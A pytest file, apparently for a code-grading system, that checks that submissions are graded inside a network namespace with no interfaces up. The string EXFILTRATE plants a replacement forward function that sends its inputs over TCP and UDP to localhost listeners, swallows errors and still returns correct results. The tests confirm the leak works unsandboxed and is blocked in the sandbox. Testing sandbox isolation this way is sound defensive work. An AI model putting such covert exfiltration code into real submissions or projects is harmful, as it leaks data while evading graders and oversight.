"""No way out of a check: a forward that sends every input it receives to a listener the test
started on this machine (TCP and UDP, with numeric, bytes and name hosts) gets nothing through,
because each check runs in a network namespace of its own with no interface up."""

from __future__ import annotations

import shutil
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from bevialm.grading.grade import Options, grade
from bevialm.grading.zygote import can_isolate

from . import planted
from .test_grading import solution_copy

pytestmark = pytest.mark.skipif(not can_isolate(), reason="this system allows no network namespace")

EXFILTRATE = """
_reference_forward = forward

def forward(params, x, cfg):
    import socket
    for host in ("127.0.0.1", b"127.0.0.1", "localhost", "::1"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                family = socket.AF_INET6 if host == "::1" else socket.AF_INET
                with socket.socket(family, kind) as s:
                    s.settimeout(0.5)
                    port = {PORTS}[kind == socket.SOCK_DGRAM]
                    if kind == socket.SOCK_STREAM:
                        s.connect((host, port))
                        s.sendall(x.tobytes())
                    else:
                        s.sendto(x.tobytes(), (host, port))
            except OSError:
                pass
    return _reference_forward(params, x, cfg)
"""


@pytest.fixture
def listeners() -> Iterator[tuple[socket.socket, socket.socket]]:
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    for s in (tcp, udp):
        s.setblocking(False)
    yield tcp, udp
    tcp.close()
    udp.close()


def _received(tcp: socket.socket, udp: socket.socket) -> list[str]:
    got = []
    try:
        conn, _ = tcp.accept()
        got.append("a TCP connection")
        conn.close()
    except BlockingIOError:
        pass
    try:
        got.append(f"a UDP datagram of {len(udp.recv(65536))} bytes")
    except BlockingIOError:
        pass
    return got


def test_the_exfiltration_works_without_the_sandbox(tmp_path: Path, listeners: tuple[socket.socket, socket.socket]) -> None:
    """The attack is real: run in-process, the listeners hear from it."""
    from .test_grading import grade_here

    tcp, udp = listeners
    folder = solution_copy(tmp_path / "pkg")
    planted.plant(folder, "layers/linear.py", EXFILTRATE.replace("{PORTS}", repr((tcp.getsockname()[1], udp.getsockname()[1]))))
    grade_here(folder, only=("linear.forward",))
    heard = _received(tcp, udp)
    assert heard[0] == "a TCP connection" and heard[1].startswith("a UDP datagram of "), heard
    shutil.rmtree(folder)


def test_no_check_reaches_a_listener_on_this_machine(tmp_path: Path, listeners: tuple[socket.socket, socket.socket]) -> None:
    tcp, udp = listeners
    folder = solution_copy(tmp_path / "pkg")
    planted.plant(folder, "layers/linear.py", EXFILTRATE.replace("{PORTS}", repr((tcp.getsockname()[1], udp.getsockname()[1]))))
    report = grade(folder, Options(only=("linear.forward", "linear.backward")))
    assert report.score == report.max_score  # the sockets failed quietly: the numbers are right
    assert _received(tcp, udp) == []
    assert not any("network" in n for n in report.notes)
